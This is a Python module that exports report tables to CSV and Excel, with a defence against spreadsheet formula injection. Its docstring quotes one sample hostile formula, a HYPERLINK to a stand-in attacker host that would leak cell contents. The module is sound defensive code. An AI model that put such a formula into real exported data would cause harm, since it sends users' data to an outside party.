"""Export of report tables: CSV (UTF-8 with a byte-order mark, so that Excel reads Vietnamese
right) and Excel (openpyxl; one sheet per table, a title naming the center and the period).
Minutes and rates are numbers, not text, so a spreadsheet can compute with them.

Text that a spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
carriage return: OWASP's list) is neutralised, since names come from people: an officer named
`=HYPERLINK("http://evil.example/?leak="&A1, ...)` must not become a live formula. In CSV it is
prefixed with a single quote; in Excel it is stored as a string (never a formula) with the
quote-prefix style, so that editing the cell does not turn it into one either. Numbers stay
numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from .tables import Table, cell, value

FORMATS = {"int": "#,##0", "pct": "0.0", "min": "0.0", "score": "0.00"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(v) -> bool:
    """Text that a spreadsheet would evaluate rather than show."""
    return isinstance(v, str) and v.startswith(FORMULA_START)


def _csv_text(v):
    return "'" + v if formula_like(v) else v


def _append(ws, values: list) -> int:
    """A row appended to a sheet, its formula-like text cells stored as plain strings; returns
    its number. (Not `ws.max_row`: openpyxl scans every cell for it, quadratic over a year of
    ratings, one row each.)"""
    ws.append(values)
    r = ws._current_row
    for i, v in enumerate(values, start=1):
        if formula_like(v):
            c = ws.cell(row=r, column=i)
            c.value = v
            c.data_type = "s"  # openpyxl made it a formula ("f")
            c.quotePrefix = True
    return r


def csv_bytes(table: Table, lang: str = "vi") -> bytes:
    """One table as CSV: a header row, then the rows."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([_csv_text(c.header(lang)) for c in table.columns])
    for row in table.rows:
        out = []
        for col in table.columns:
            raw, kind = value(row, col, lang)
            v = cell(raw, kind)
            out.append("" if v is None else _csv_text(v))
        writer.writerow(out)
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def _sheet(wb: Workbook, table: Table, heading: list[str], lang: str, first: bool) -> None:
    ws = wb.active if first else wb.create_sheet()
    ws.title = table.name[:31]
    for line in heading:
        _append(ws, [line])
    title_row = _append(ws, [table.title(lang)])
    ws.cell(row=title_row, column=1).font = Font(bold=True, size=12)
    header_row = _append(ws, [c.header(lang) for c in table.columns])
    fill = PatternFill("solid", fgColor="DCE6F2")
    for i, _col in enumerate(table.columns, start=1):
        c = ws.cell(row=header_row, column=i)
        c.font = Font(bold=True)
        c.fill = fill
        c.alignment = Alignment(wrap_text=True, vertical="center")
    for row in table.rows:
        values, kinds = [], []
        for col in table.columns:
            raw, kind = value(row, col, lang)
            values.append(cell(raw, kind))
            kinds.append(kind)
        r = _append(ws, values)
        for i, kind in enumerate(kinds, start=1):
            if kind in FORMATS:
                ws.cell(row=r, column=i).number_format = FORMATS[kind]
    for i, col in enumerate(table.columns, start=1):
        width = 28 if col.kind == "text" else max(9, min(18, len(col.header(lang)) // 2 + 4))
        ws.column_dimensions[get_column_letter(i)].width = width
    ws.freeze_panes = ws.cell(row=header_row + 1, column=2)


def xlsx_bytes(tables: list[Table], heading: list[str], lang: str = "vi") -> bytes:
    """Tables as an Excel workbook, one sheet each, each headed by `heading` lines."""
    wb = Workbook()
    for i, table in enumerate(tables):
        _sheet(wb, table, heading, lang, first=i == 0)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
